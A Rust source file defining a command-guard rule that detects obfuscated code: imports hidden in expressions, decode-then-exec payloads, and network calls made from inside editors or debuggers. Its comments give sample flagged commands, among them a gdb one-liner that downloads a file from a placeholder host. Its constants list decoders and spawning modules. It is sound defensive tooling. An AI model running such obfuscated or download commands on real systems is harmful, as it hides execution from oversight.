//! `hidden-code`: code that imports a module inside an expression, decodes itself before it runs, or connects to
//! another machine from an editor or a debugger.
//!
//! ## Why
//! Such code is written to pass a check that searches for names, as injected expressions do. ATT&CK T1027, T1059.006.
//!
//! ## Examples
//! - asked: `python3 -c "eval(\"__import__('os').system('ls')\")"`
//! - asked: `python3 -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"`
//! - asked: `gdb -nx -ex "python import urllib.request as u; u.urlretrieve('https://cdn.example.net/x', 'x')" -ex quit`
//! - passes: `python3 -c "m = __import__(name); print(m.__version__)"`
//! - passes: `python3 -c "import os; print(os.getcwd())"`
//! - passes: `grep -rn "__import__('os')" src`
//!
//! ## Instead
//! Import the module at the top, and write the code in plain form.

use guard_sdk::{Outcome, Rule};

use super::Hit;
use crate::kinds::{SHOWING, has_any, is_any};
use crate::view::{View, name, texts};

pub(crate) const RULE: Rule = Rule {
    id: "hidden-code",
    summary: "runs code that hides what it does",
    default: Outcome::Ask,
    ceiling: Outcome::Deny,
};

/// Modules that start programs or use the network.
const MODULES: &[&str] = &["os", "subprocess", "pty", "socket", "shutil", "ctypes", "builtins", "posix", "commands"];

/// Calls that start, send or delete something.
const ACTS: &[&str] = &[
    ".system(",
    ".popen(",
    "call(",
    "run(",
    "spawn(",
    "exec",
    "connect(",
    "unlink(",
    "remove(",
    "rmtree(",
    "check_output(",
    "Popen(",
];

pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
    let in_code = || {
        view.scripts().any(|script| {
            script.language != "sed" && (imports(&script.text) && has_any(&script.text, ACTS) || decodes(&script.text))
        })
    };
    // An expression that is passed to a program of another kind is an injection.
    let passed = || {
        view.commands().any(|command| {
            let is_data = is_any(&name(command), SHOWING) || name(command).contains("python");
            !is_data
                && texts(command)
                    .any(|text| imports(text) && has_any(text, &[".system(", ".popen(", "call(", "run(", "spawn("]))
        })
    };
    (in_code() || passed() || uses_network_in_tool(view)).then(|| {
        Hit::new(
            "Runs obfuscated code: hidden in an expression or another tool, or decoded as it runs",
            "write the code out, and run it by its own interpreter",
        )
    })
}

/// Returns whether code inside an editor or a debugger uses the network.
fn uses_network_in_tool(view: &View<'_>) -> bool {
    const TOOLS: &[&str] = &[
        "vim",
        "vi",
        "nvim",
        "view",
        "rview",
        "rvim",
        "gview",
        "vimdiff",
        "ex",
        "gdb",
        "lldb",
        "gimp",
        "gimp-console",
        "emacs",
    ];
    const SPEAKS: &[&str] =
        &["urlopen(", "urlretrieve(", "requests.", "httpx.", "http.client", "socket.", "URI.open", "Net::HTTP"];
    view.scripts().any(|script| {
        let command = view.index().command(script.command_id);
        let by_tool = command.is_some_and(|command| {
            command
                .via
                .iter()
                .any(|via| via.kind == "code" && is_any(via.detail.rsplit('/').next().unwrap_or_default(), TOOLS))
        });
        by_tool && has_any(&script.text, SPEAKS)
    })
}

/// Returns whether the code contains `__import__('os')` with any quotes.
fn imports(text: &str) -> bool {
    text.split("__import__").skip(1).any(|rest| {
        let rest = rest.trim_start().strip_prefix('(').unwrap_or_default();
        let rest = rest.trim_start_matches([' ', '\\', '"', '\'']);
        let end = rest.find(|char: char| !char.is_ascii_alphanumeric() && char != '_').unwrap_or(rest.len());
        rest.get(..end).is_some_and(|module| is_any(module, MODULES))
    })
}

/// Returns whether the code runs what it decodes.
fn decodes(text: &str) -> bool {
    let runs = |text: &str| has_any(text, &["exec(", "eval(", "Function("]);
    let decoders = [
        "b64decode(",
        "b32decode(",
        "a85decode(",
        "unhexlify(",
        "zlib.decompress(",
        "marshal.loads(",
        "codecs.decode(",
        "fromhex(",
        "atob(",
        "'base64')",
        "\"base64\")",
        "base64_decode(",
        "gzinflate(",
        "str_rot13(",
        "decode_base64(",
    ];
    // The call is directly inside the other one.
    decoders.iter().any(|decoder| {
        text.match_indices(decoder).any(|(at, _)| {
            let before = text.get(..at).unwrap_or_default();
            let start = before.char_indices().rev().nth(48).map_or(0, |(at, _)| at);
            let near = before.get(start..).unwrap_or_default();
            runs(near.rsplit(['\n', ';']).next().unwrap_or_default())
        })
    })
}
